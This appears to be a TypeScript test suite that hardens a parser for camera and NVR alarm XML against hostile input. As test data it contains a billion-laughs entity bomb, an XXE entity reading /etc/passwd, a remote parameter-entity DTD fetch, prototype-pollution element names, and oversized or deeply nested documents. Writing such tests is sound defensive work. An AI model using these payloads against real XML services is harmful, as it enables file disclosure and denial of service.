// Hostile and damaged input (issue 3, part 3): every case asserts the outcome (error code, or a
// payload without the damage) and, after each test, that the process is unharmed: a good document
// still parses to the same values and no prototype was polluted.
import { strict as assert } from "node:assert";
import { parseMessage } from "../../src/protocol/parse";
import { ViewtronParseError } from "../../src/protocol/errors";
import type { ParseErrorCode } from "../../src/protocol/errors";
import type { EventPayload, ParsedMessage } from "../../src/protocol/types";
import { makeTestJpeg, seededRandom } from "../../src/sim/jpeg";
import { RECEIVED_AT, loadFixture } from "../support/fixture-assert";
import { fixtureImage } from "../support/fixture-images";

const GOOD_FILE = "nvr-v2/region-intrusion.xml";
const OPTS = { receivedAt: RECEIVED_AT };
/** Generous: a regression guard against super-linear work, not a benchmark. */
const TIME_LIMIT_MS = 2000;

// Snapshots of the built-in prototypes, taken in `before` (after every test file has loaded, since
// assertion libraries such as should.js legitimately extend Object.prototype at load time).
let objectProtoNames: string[] = [];
let objectProtoDescriptors: Array<[string, unknown]> = [];
let arrayProtoNames: string[] = [];
function snapshotPrototypes(): void {
  objectProtoNames = Object.getOwnPropertyNames(Object.prototype).sort();
  objectProtoDescriptors = objectProtoNames.map((n) => [n, Object.getOwnPropertyDescriptor(Object.prototype, n)?.value]);
  arrayProtoNames = Object.getOwnPropertyNames(Array.prototype).sort();
}

function parse(body: string | Buffer): ParsedMessage {
  return parseMessage(body, OPTS);
}

/** Runs parseMessage; returns the payload or the thrown error (anything but a ViewtronParseError fails). */
function attempt(body: string | Buffer): { payload?: ParsedMessage; error?: ViewtronParseError; ms: number } {
  const start = process.hrtime.bigint();
  try {
    const payload = parse(body);
    return { payload, ms: Number(process.hrtime.bigint() - start) / 1e6 };
  } catch (err) {
    const ms = Number(process.hrtime.bigint() - start) / 1e6;
    if (!(err instanceof ViewtronParseError)) {
      assert.fail(`threw ${err instanceof Error ? `${err.name}: ${err.message}` : String(err)} instead of a ViewtronParseError`);
    }
    return { error: err, ms };
  }
}

function expectError(body: string | Buffer, codes: ParseErrorCode[]): ViewtronParseError {
  const { payload, error } = attempt(body);
  assert.ok(error, `expected ViewtronParseError ${codes.join(" | ")}, got a ${payload?.kind} payload`);
  assert.ok(codes.includes(error.code), `code ${error.code} (${error.message}) not in ${codes.join(", ")}`);
  assert.ok(error.message.length > 0 && error.message.length < 500, "short message");
  return error;
}

function assertNotPolluted(): void {
  assert.equal(({} as Record<string, unknown>).polluted, undefined, "({}).polluted");
  assert.equal(([] as unknown as Record<string, unknown>).polluted, undefined, "[].polluted");
  assert.deepEqual(Object.getOwnPropertyNames(Object.prototype).sort(), objectProtoNames, "Object.prototype names changed");
  for (const [name, value] of objectProtoDescriptors) {
    assert.equal(Object.getOwnPropertyDescriptor(Object.prototype, name)?.value, value, `Object.prototype.${name} replaced`);
  }
  assert.deepEqual(Object.getOwnPropertyNames(Array.prototype).sort(), arrayProtoNames, "Array.prototype names changed");
  assert.equal(Object.getPrototypeOf({}), Object.prototype);
}

function assertPayloadClean(payload: unknown): void {
  const seen = new Set<unknown>();
  const walk = (value: unknown, path: string): void => {
    if (value === null || typeof value !== "object" || Buffer.isBuffer(value) || seen.has(value)) return;
    seen.add(value);
    const proto = Object.getPrototypeOf(value);
    assert.ok(proto === Object.prototype || proto === Array.prototype || proto === null, `${path} has a foreign prototype`);
    assert.equal((value as Record<string, unknown>).polluted, undefined, `${path}.polluted`);
    for (const key of Object.keys(value)) walk((value as Record<string, unknown>)[key], `${path}.${key}`);
  };
  walk(payload, "payload");
  assert.doesNotThrow(() => JSON.stringify(payload));
}

// ---- documents used below ----------------------------------------------------------------------

const goodText = (): string => loadFixture(GOOD_FILE).toString("utf8");

/** An NVR regionIntrusion event with the given image texts (raw, inserted as is). */
function nvrEvent(opts: { source?: string; target?: string; deviceName?: string; extra?: string } = {}): string {
  return (
    `<?xml version="1.0" encoding="UTF-8"?>\n<config version="2.0.0" xmlns="http://www.ipc.com/ver10">\n` +
    `<messageType>alarmData</messageType>\n<deviceInfo><deviceName>${opts.deviceName ?? "Depot NVR"}</deviceName>` +
    `<ip>10.30.0.2</ip><mac>A4:14:37:C0:FF:EE</mac><channelId>3</channelId></deviceInfo>\n` +
    `<smartType>regionIntrusion</smartType>\n<currentTime>1768100001234000</currentTime>\n` +
    `<eventInfo><item><eventId>5120</eventId><targetId>4096</targetId><boundary>area</boundary>` +
    `<pointGroup><item><x>1020</x><y>2210</y></item><item><x>5590</x><y>1985</y></item><item><x>8815</x><y>5230</y></item></pointGroup>` +
    `<rect><x1>4470</x1><y1>3312</y1><x2>5936</x2><y2>8024</y2></rect></item></eventInfo>\n` +
    (opts.extra ?? "") +
    (opts.source !== undefined
      ? `<sourceDataInfo><dataType>0</dataType><width>1920</width><height>1080</height><sourceBase64Data>${opts.source}</sourceBase64Data></sourceDataInfo>\n`
      : "") +
    `<targetListInfo><item><targetId>4096</targetId><targetType>car</targetType>` +
    (opts.target !== undefined ? `<targetImageData><targetBase64Data>${opts.target}</targetBase64Data></targetImageData>` : "") +
    `</item></targetListInfo>\n</config>\n`
  );
}

/** An IPC PEA event with `inner` inserted under <config>. */
function ipcEvent(inner: string, smartType = "PEA"): string {
  return (
    `<config version="1.7" xmlns="http://www.ipc.com/ver10"><smartType type="openAlramObj">${smartType}</smartType>` +
    `<currentTime type="tint64">1767303012450331</currentTime><deviceName type="string">Backyard</deviceName>` +
    `${inner}<listInfo type="list" count="1"><item><targetId type="tuint32">5</targetId>` +
    `<rect><x1>100</x1><y1>200</y1><x2>300</x2><y2>400</y2></rect>` +
    `<targetImageData><targetType type="targetType">person</targetType></targetImageData></item></listInfo></config>`
  );
}

describe("hostile input", () => {
  before(snapshotPrototypes);

  afterEach(function () {
    // The process is unharmed: no prototype pollution, and a good document still parses right.
    assertNotPolluted();
    const good = parse(loadFixture(GOOD_FILE)) as EventPayload;
    assert.equal(good.kind, "event");
    assert.equal(good.smartType, "regionIntrusion");
    assert.equal(good.eventId, "5120");
    assert.equal(good.targets.length, 1);
    assert.ok(good.images?.source?.equals(fixtureImage(GOOD_FILE, "sourceBase64Data")), "good document's image");
    assertNotPolluted();
  });

  describe("DOCTYPE and ENTITY declarations -> doctype", () => {
    const laughs =
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n` +
      Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? "" : i};`.repeat(10)}">`).join("\n") +
      `\n]>\n<config version="2.0.0"><messageType>keepalive</messageType><deviceInfo><deviceName>&lol9;</deviceName></deviceInfo></config>`;
    const cases: Array<[string, string | Buffer]> = [
      ["billion laughs", laughs],
      [
        "external entity (XXE)",
        `<?xml version="1.0"?><!DOCTYPE config [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><config version="2.0.0"><messageType>keepalive</messageType><deviceInfo><deviceName>&xxe;</deviceName></deviceInfo></config>`,
      ],
      [
        "parameter entity",
        `<!DOCTYPE config [<!ENTITY % remote SYSTEM "http://198.51.100.7/x.dtd"> %remote;]><config version="1.7"><smartType>PEA</smartType></config>`,
      ],
      ["plain DOCTYPE before a valid event", `<!DOCTYPE config>\n${goodText().replace(/^<\?xml[^>]*\?>\s*/, "")}`],
      ["lower-case doctype", `<!doctype config><config version="2.0.0"><messageType>keepalive</messageType></config>`],
      ["ENTITY without DOCTYPE", `<!ENTITY x "y"><config version="2.0.0"><messageType>keepalive</messageType></config>`],
      ["DOCTYPE after comments and whitespace", `\n  <!-- hi -->\n<!DOCTYPE config SYSTEM "config.dtd">\n<config version="1.7"/>`],
      ["DOCTYPE in a Buffer with a BOM", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(laughs)])],
    ];
    for (const [name, body] of cases) {
      it(name, () => {
        const start = Date.now();
        expectError(body, ["doctype"]);
        assert.ok(Date.now() - start < TIME_LIMIT_MS, "rejected quickly");
      });
    }
  });

  describe("__proto__ / constructor / prototype names cannot pollute", () => {
    const cases: Array<[string, string]> = [
      ["__proto__ element under config", ipcEvent(`<__proto__><polluted>yes</polluted></__proto__>`)],
      ["constructor/prototype elements", ipcEvent(`<constructor><prototype><polluted>yes</polluted></prototype></constructor>`)],
      ["prototype element", ipcEvent(`<prototype><polluted>yes</polluted></prototype>`)],
      ["__proto__ inside a list item", ipcEvent(`<perimeter><perInfo type="list"><item><__proto__><polluted>1</polluted></__proto__><eventId>1</eventId><targetId>5</targetId></item></perInfo></perimeter>`)],
      ["__proto__ inside deviceInfo (NVR)", nvrEvent({ deviceName: `Depot</deviceName><__proto__><polluted>yes</polluted></__proto__><deviceName>x` })],
      ["__proto__ attribute", `<config version="1.7" __proto__="polluted" constructor="x"><smartType __proto__="1">PEA</smartType><currentTime>1767303012450331</currentTime></config>`],
      ["__proto__ as the root element", `<__proto__><polluted>yes</polluted></__proto__>`],
      ["constructor as the root element", `<constructor><prototype><polluted>yes</polluted></prototype></constructor>`],
      ["repeated __proto__ siblings", ipcEvent(`<__proto__><polluted>1</polluted></__proto__><__proto__><polluted>2</polluted></__proto__>`)],
      ["__proto__ in alarmStatusInfo", `<config version="1.7"><alarmStatusInfo><__proto__ type="boolean" id="1">true</__proto__></alarmStatusInfo><dataTime>2026-01-09 00:41:57</dataTime></config>`],
    ];
    for (const [name, body] of cases) {
      it(name, () => {
        const { payload, error } = attempt(body);
        if (payload) assertPayloadClean(payload);
        else assert.ok(error && ["forbidden-name", "unknown-document", "malformed-xml"].includes(error.code), `code ${error?.code}`);
        assertNotPolluted();
      });
    }

    for (const word of ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"]) {
      it(`smartType "${word}" is an unknown type (category other), not an object key`, () => {
        const p = parse(ipcEvent("", word)) as EventPayload;
        assert.equal(p.kind, "event");
        assert.equal(p.smartType, word);
        assert.equal(p.category, "other");
        assertPayloadClean(p);
      });
      it(`alarm name "${word}" gets category other`, () => {
        const body = `<config version="2.0.0"><messageType>alarmStatus</messageType><currentTime>1768100000000000</currentTime><alarmStatusInfo><${word}><item id="1">true</item></${word}></alarmStatusInfo></config>`;
        const { payload } = attempt(body);
        if (payload) {
          assert.equal(payload.kind, "alarmStatus");
          if (payload.kind === "alarmStatus" && payload.alarms.length) {
            assert.equal(payload.alarms[0].category, "other");
            assert.equal(typeof payload.alarms[0].alarmType, "string");
          }
          assertPayloadClean(payload);
        }
      });
      it(`target type "${word}" becomes other`, () => {
        const p = parse(nvrEvent().replace("<targetType>car</targetType>", `<targetType>${word}</targetType>`)) as EventPayload;
        assert.equal(p.targets.length, 1);
        assert.equal(p.targets[0].type, "other");
      });
    }
  });

  describe("multi-megabyte text nodes parse in bounded time", () => {
    const FIVE_MB = 5 * 1024 * 1024;
    it("5 MB of base64-alphabet text (not a JPEG) in sourceBase64Data -> event, no image", () => {
      const { payload, ms } = attempt(nvrEvent({ source: "A".repeat(FIVE_MB) }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
      assert.equal(payload?.kind, "event");
      assert.equal((payload as EventPayload).images?.source, undefined);
    });
    it("5 MB JPEG-signed data in CDATA in targetBase64Data -> decoded image, exact bytes", () => {
      const small = makeTestJpeg(32, 16, 77);
      const big = Buffer.concat([small, Buffer.alloc(Math.ceil((FIVE_MB * 3) / 4) - small.length, 0x55)]);
      const { payload, ms } = attempt(nvrEvent({ target: `<![CDATA[${big.toString("base64")}]]>` }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
      assert.ok((payload as EventPayload).images?.target?.equals(big), "image bytes");
    });
    it("a real 2688x1520 JPEG (~0.6 MB base64) as overview -> exact bytes", () => {
      const jpeg = makeTestJpeg(2688, 1520, 2024);
      const { payload, ms } = attempt(nvrEvent({ source: jpeg.toString("base64"), target: makeTestJpeg(128, 64, 2025).toString("base64") }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
      assert.ok((payload as EventPayload).images?.source?.equals(jpeg));
    });
    it("5 MB of text in a non-base64 element (deviceName) -> bounded time", () => {
      const { payload, ms } = attempt(nvrEvent({ deviceName: "x".repeat(FIVE_MB) }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
      if (payload) {
        assert.equal(payload.kind, "event");
        assertPayloadClean(payload);
      }
    });
    it("5 MB of CDATA in a non-base64 element -> bounded time", () => {
      const { ms } = attempt(nvrEvent({ extra: `<note><![CDATA[${"y\n".repeat(FIVE_MB / 2)}]]></note>` }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
    });
    it("5 MB comment -> bounded time", () => {
      const { ms } = attempt(nvrEvent({ extra: `<!--${"z".repeat(FIVE_MB)}-->` }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
    });
    it("5 MB attribute value -> bounded time", () => {
      const { ms } = attempt(nvrEvent({ extra: `<note a="${"q".repeat(FIVE_MB)}"/>` }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
    });
    it("100,000 sibling elements -> bounded time", () => {
      const { ms } = attempt(nvrEvent({ extra: `<noise>${"<n>1</n>".repeat(100_000)}</noise>` }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
    });
    it("1 MB element name -> bounded time", () => {
      const name = `n${"a".repeat(1024 * 1024)}`;
      const { ms } = attempt(nvrEvent({ extra: `<${name}>1</${name}>` }));
      assert.ok(ms < TIME_LIMIT_MS, `${ms.toFixed(0)} ms`);
    });
  });

  describe("truncated documents -> malformed-xml", () => {
    const sources = [GOOD_FILE, "ipc-v1/lpr-vehice.xml", "ipc-v1/alarm-status-on.xml", "quirks/one-line-tripwire.xml"];
    for (const file of sources) {
      it(file, () => {
        const text = loadFixture(file).toString("utf8").trimEnd();
        const rootStart = text.indexOf("<config");
        const rootOpenEnd = text.indexOf(">", rootStart) + 1;
        const cuts = new Set<number>([
          rootOpenEnd, // only the root start tag
          rootOpenEnd + 5,
          Math.floor(text.length * 0.25),
          Math.floor(text.length * 0.5),
          Math.floor(text.length * 0.75),
          text.indexOf("<![CDATA[") > 0 ? text.indexOf("<![CDATA[") + 12 : rootOpenEnd + 1, // inside CDATA
          text.indexOf("/9j/") > 0 ? text.indexOf("/9j/") + 100 : rootOpenEnd + 2, // inside base64
          text.lastIndexOf("</config>"), // everything but the end tag
          text.length - 1, // "</config" without ">"
        ]);
        for (const cut of cuts) {
          const err = expectError(text.slice(0, cut), ["malformed-xml"]);
          assert.equal(err.name, "ViewtronParseError");
        }
      });
    }
  });

  describe("not XML -> not-xml or malformed-xml", () => {
    const rand = seededRandom(4242);
    const randomBytes = Buffer.from(Array.from({ length: 4096 }, () => Math.floor(rand() * 256)));
    const jpeg = makeTestJpeg(64, 48, 9);
    const cases: Array<[string, string | Buffer]> = [
      ["random bytes", randomBytes],
      ["JSON", JSON.stringify({ messageType: "alarmData", smartType: "vehicle", plate: "0042HB" })],
      ["raw base64", jpeg.toString("base64")],
      ["binary JPEG", jpeg],
      ["plain text", "OK\n"],
      ["NUL bytes", Buffer.from([0, 1, 2, 3, 0, 0])],
      ["a lone <", "<"],
      ["angle-bracket soup", "<<<>>>"],
      ["only a declaration", `<?xml version="1.0" encoding="UTF-8"?>\n`],
      ["only a comment", "<!-- nothing here -->"],
      ["UTF-16 encoded XML", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(goodText(), "utf16le")])],
      ["form-encoded body", "messageType=alarmData&smartType=PEA"],
      ["two root elements", `<config version="2.0.0"><messageType>keepalive</messageType></config><config version="2.0.0"/>`],
      ["mismatched end tag", `<config version="2.0.0"><messageType>keepalive</messageType></confg>`],
      ["unclosed attribute quote", `<config version="2.0.0><messageType>keepalive</messageType></config>`],
    ];
    for (const [name, body] of cases) {
      it(name, () => {
        expectError(body, ["not-xml", "malformed-xml"]);
      });
    }
  });

  describe("deep nesting -> too-deep or malformed-xml, no stack overflow", () => {
    for (const depth of [10_000, 100_000]) {
      it(`${depth.toLocaleString("en")} levels`, () => {
        const body = `<config version="1.7"><smartType>PEA</smartType>${"<a>".repeat(depth)}x${"</a>".repeat(depth)}</config>`;
        const start = Date.now();
        expectError(body, ["too-deep", "malformed-xml"]);
        assert.ok(Date.now() - start < TIME_LIMIT_MS);
      });
    }
    it("10,000 unclosed levels", () => {
      expectError(`<config version="1.7">${"<item>".repeat(10_000)}`, ["too-deep", "malformed-xml"]);
    });
    it("10,000 nested list items", () => {
      const body = `<config version="1.7"><smartType>PEA</smartType><listInfo>${"<item>".repeat(10_000)}${"</item>".repeat(10_000)}</listInfo></config>`;
      expectError(body, ["too-deep", "malformed-xml"]);
    });
  });

  describe("invalid base64 in an image element -> event parsed, image absent", () => {
    const jpeg = makeTestJpeg(32, 16, 31);
    const b64 = jpeg.toString("base64");
    const cases: Array<[string, string]> = [
      ["characters outside the alphabet", "/9j/4AAQ!!!!****%%%%"],
      ["JPEG prefix then garbage", `/9j/${"@".repeat(64)}`],
      ["too short", "/9j"],
      ["valid base64 of a PNG", Buffer.from("89504e470d0a1a0a0000000d49484452", "hex").toString("base64")],
      ["valid base64 of bytes FF FF FF", "////"],
      ["base64 of random bytes", Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37 + 11) & 0xff)).toString("base64")],
      ["data URL", `data:image/jpeg;base64,${b64}`],
      ["whitespace only", "   \n  "],
      ["CDATA around garbage", "<![CDATA[%%%not base64%%%]]>"],
      ["placeholder", "BASE64_JPEG_OVERVIEW_IMAGE"],
    ];
    for (const [name, text] of cases) {
      it(name, () => {
        const { payload, error } = attempt(nvrEvent({ source: text, target: text }));
        assert.equal(error, undefined, `threw ${error?.code}`);
        const p = payload as EventPayload;
        assert.equal(p.kind, "event");
        assert.equal(p.smartType, "regionIntrusion");
        assert.equal(p.targets.length, 1);
        assert.equal(p.images?.source, undefined, "source");
        assert.equal(p.images?.target, undefined, "target");
      });
    }
    it("line-wrapped base64 (76 columns) of a real JPEG still decodes", () => {
      const wrapped = `\n${b64.replace(/.{76}/g, "$&\r\n")}\n`;
      const p = parse(nvrEvent({ source: wrapped, target: `<![CDATA[${wrapped}]]>` })) as EventPayload;
      assert.ok(p.images?.source?.equals(jpeg), "source");
      assert.ok(p.images?.target?.equals(jpeg), "target");
    });
    it("the image of one element is kept when its sibling is broken", () => {
      const p = parse(nvrEvent({ source: b64, target: "/9j/@@@@" })) as EventPayload;
      assert.ok(p.images?.source?.equals(jpeg));
      assert.equal(p.images?.target, undefined);
    });
  });

  describe("non-UTF-8 bytes -> no crash", () => {
    const latin1 = Buffer.from(nvrEvent({ deviceName: "Einfahrt S\u00fcd" }), "latin1"); // 0xFC alone
    const cases: Array<[string, Buffer]> = [
      ["Latin-1 byte in a value", latin1],
      ["lone continuation bytes", Buffer.from(nvrEvent({ deviceName: "A\u0080\u00bfB" }), "latin1")],
      ["overlong encoding", Buffer.concat([Buffer.from(nvrEvent().split("Depot NVR")[0]), Buffer.from([0xc0, 0xaf]), Buffer.from(nvrEvent().split("Depot NVR")[1])])],
      ["invalid bytes in a comment", Buffer.concat([Buffer.from("<!-- "), Buffer.from([0xfe, 0xff, 0xfa]), Buffer.from(" -->\n"), Buffer.from(nvrEvent())])],
      ["truncated multi-byte sequence at the end", Buffer.concat([Buffer.from(nvrEvent()), Buffer.from([0xe2, 0x82])])],
    ];
    for (const [name, body] of cases) {
      it(name, () => {
        const { payload } = attempt(body);
        if (payload) {
          assert.equal(payload.kind, "event");
          assert.equal(typeof payload.device.name, "string");
          assertPayloadClean(payload);
        }
      });
    }
    it("a Latin-1 device name still yields the event and its other values", () => {
      const p = parse(latin1) as EventPayload;
      assert.equal(p.smartType, "regionIntrusion");
      assert.equal(p.eventId, "5120");
      assert.ok(p.device.name?.startsWith("Einfahrt S"));
    });
  });

  describe("BOM, CRLF, one-line documents, CDATA with newlines -> parsed identically", () => {
    const files = [GOOD_FILE, "ipc-v1/lpr-vehice.xml", "ipc-v1/alarm-status-on.xml", "ipc-v1/traject.xml", "nvr-v2/vehicle.xml", "ipc-v1/keepalive-deviceinfo.xml"];
    const variants: Array<[string, (text: string) => string | Buffer]> = [
      ["UTF-8 BOM (Buffer)", (t) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(t)])],
      ["UTF-8 BOM (string)", (t) => `\ufeff${t}`],
      ["CRLF line ends", (t) => t.replace(/\r?\n/g, "\r\n")],
      ["one line, no trailing newline", (t) => t.replace(/>\s+</g, "><").trim()],
      ["tabs and blank lines between elements", (t) => t.replace(/>\s*</g, ">\n\t\t\n<")],
      [
        "values wrapped in CDATA with newlines",
        (t) =>
          t
            // existing CDATA: surround with newlines and indentation
            .replace(/(<!\[CDATA\[[\s\S]*?\]\]>)/g, "\n        $1\n    ")
            // bare leaf values (images included): wrap in CDATA with newlines
            .replace(/>([^<>\s][^<>]*)<\//g, ">\n    <![CDATA[$1]]>\n</"),
      ],
    ];
    for (const file of files) {
      for (const [name, transform] of variants) {
        it(`${file}: ${name}`, () => {
          const text = loadFixture(file).toString("utf8");
          const base = parse(loadFixture(file));
          const changed = transform(text);
          assert.notDeepEqual(Buffer.from(changed), Buffer.from(text), "the variant differs from the original");
          assert.deepEqual(parse(changed), base);
        });
      }
    }
  });
});
